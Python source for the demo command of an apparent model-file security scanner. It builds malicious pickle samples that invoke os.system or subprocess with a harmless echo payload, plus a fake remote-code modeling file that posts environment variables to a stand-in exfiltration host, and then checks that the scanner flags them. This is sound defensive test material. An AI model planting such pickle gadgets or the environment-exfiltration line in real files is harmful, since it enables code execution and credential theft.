"""``mlwarden demo``: write a small sample directory and scan it.

The malicious samples are real attack shapes with harmless payloads (they would only run
``echo``); nothing here is ever loaded, and the scan itself executes nothing.
"""

from __future__ import annotations

import io
import json
import pickle
import struct
import sys
import zipfile
from pathlib import Path

import click

from mlwarden.cli.errors import CliError
from mlwarden.report.model import Report, Verdict

_HARMLESS = "echo mlwarden-demo-payload"


def _global(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _short_unicode(s: str) -> bytes:
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def _reduce_call(module: str, name: str, arg: str) -> bytes:
    """``module.name(arg)`` as GLOBAL + REDUCE."""
    return b"\x80\x04" + _global(module, name) + _short_unicode(arg) + b"\x85R."


def _stack_global_call(module: str, name: str, arg: str) -> bytes:
    """STACK_GLOBAL with a dotted name: ``getattr(import(module), 'os').system``."""
    return (b"\x80\x04" + _short_unicode(module) + _short_unicode(name) + b"\x93"
            + _short_unicode(arg) + b"\x85R.")


def _torch_zip(data_pkl: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr("archive/data.pkl", data_pkl)
        z.writestr("archive/byteorder", "little")
        z.writestr("archive/data/0", b"\x00" * 64)
        z.writestr("archive/version", "3\n")
    return buf.getvalue()


def _benign_state_dict_pickle() -> bytes:
    """What torch.save writes for ``{"weight": tensor}``: rebuild calls and a storage pid."""
    return (
        b"\x80\x02}q\x00X\x06\x00\x00\x00weightq\x01"
        + _global("torch._utils", "_rebuild_tensor_v2")
        + b"q\x02((X\x07\x00\x00\x00storageq\x03" + _global("torch", "FloatStorage")
        + b"q\x04X\x01\x00\x00\x000q\x05X\x03\x00\x00\x00cpuq\x06K\x10tq\x07QK\x00K\x04K\x04"
        + b"\x86q\x08K\x04K\x01\x86q\x09\x89"
        + _global("collections", "OrderedDict") + b"q\x0a)Rq\x0btq\x0cRq\x0ds."
    )


def _safetensors() -> bytes:
    header = json.dumps({"w": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]},
                         "__metadata__": {"format": "pt"}}, separators=(",", ":")).encode()
    header += b" " * (-len(header) % 8)
    return struct.pack("<Q", len(header)) + header + b"\x00" * 16


_MODELING_EXFIL = '''"""Looks like custom model code; steals the environment at import time."""
import json
import os
import urllib.request

import torch.nn as nn

urllib.request.urlopen("http://exfil.example.invalid/c", data=json.dumps(dict(os.environ)).encode())


class TinyModel(nn.Module):
    def forward(self, x):
        return x
'''


def write_samples(root: Path) -> None:
    benign = root / "benign"
    malicious = root / "malicious"
    benign.mkdir(parents=True, exist_ok=True)
    malicious.mkdir(parents=True, exist_ok=True)
    (benign / "plain.pkl").write_bytes(pickle.dumps({"lr": 0.01, "layers": [4, 4]}, 4))
    (benign / "pytorch_model.bin").write_bytes(_torch_zip(_benign_state_dict_pickle()))
    (benign / "model.safetensors").write_bytes(_safetensors())
    (benign / "config.json").write_text(json.dumps({"model_type": "bert", "hidden_size": 4}))
    # A plain pickle under a weights name: found by content, not by extension.
    (malicious / "weights.model").write_bytes(_reduce_call("os", "system", _HARMLESS))
    (malicious / "pytorch_model.bin").write_bytes(
        _torch_zip(_reduce_call("subprocess", "getoutput", _HARMLESS)))
    (malicious / "dotted.pkl").write_bytes(_stack_global_call("logging", "os.system", _HARMLESS))
    (malicious / "resolve_name.pkl").write_bytes(
        _reduce_call("pkgutil", "resolve_name", "os:system"))
    # nullifAI: the payload runs, then the stream breaks before STOP.
    (malicious / "broken.pkl").write_bytes(_reduce_call("os", "system", _HARMLESS)[:-1] + b"\xff")
    # A repository sample: config.json is only the pointer (auto_map) that makes
    # trust_remote_code=True import the malicious modeling file next to it.
    remote = malicious / "remote-code-repo"
    remote.mkdir(exist_ok=True)
    (remote / "modeling_tiny.py").write_text(_MODELING_EXFIL)
    (remote / "config.json").write_text(json.dumps(
        {"model_type": "tiny", "auto_map": {"AutoModel": "modeling_tiny.TinyModel"}}))


def unexpected_verdicts(report: Report, root: Path) -> list[str]:
    """The demo's self-check: every benign file is clean, and every malicious sample (a file,
    or a repository directory judged by its worst file) is malicious and was scanned at all."""
    samples = {p.name: Verdict.CLEAN for p in (root / "malicious").iterdir()}
    seen: set[str] = set()
    missed: list[str] = []
    for f in report.files:
        if f.parent is not None:
            continue
        try:
            parts = Path(f.path).relative_to(root).parts
        except ValueError:
            continue
        if len(parts) < 2:
            continue
        if parts[0] == "benign" and f.verdict is not Verdict.CLEAN:
            missed.append(f.path)
        elif parts[0] == "malicious" and parts[1] in samples:
            seen.add(parts[1])
            samples[parts[1]] = Verdict.worst([samples[parts[1]], f.verdict])
    missed += [str(root / "malicious" / name) + (" (not scanned)" if name not in seen else "")
               for name, v in sorted(samples.items()) if v is not Verdict.MALICIOUS]
    return missed


@click.command()
@click.option("--dir", "directory", type=click.Path(file_okay=False), default="mlwarden-demo",
              show_default=True, help="Where to write the samples.")
@click.option("--format", "fmt", type=click.Choice(["table", "json", "sarif"]), default="table",
              show_default=True)
def demo(directory: str, fmt: str) -> None:
    """Write benign and malicious sample models (harmless payloads) and scan them."""
    from mlwarden.report.render import render
    from mlwarden.scan.engine import scan_paths

    root = Path(directory)
    try:
        write_samples(root)
    except OSError as exc:
        raise CliError(f"cannot write samples to {root}: {exc.strerror}") from exc
    click.echo(f"Wrote sample models to {root}/ (benign/ and malicious/). Scanning...", err=True)
    report = scan_paths([str(root)])
    render(report, fmt, sys.stdout)
    # The demo checks itself: it fails only when the scanner missed something.
    missed = unexpected_verdicts(report, root)
    if missed:
        click.echo("demo: unexpected verdicts for: " + ", ".join(missed), err=True)
        sys.exit(1)
    click.echo(
        f"\nEvery sample under {root}/malicious is malicious and every one under {root}/benign "
        f"is clean. Next: mlwarden scan {root}/malicious --format sarif", err=True)
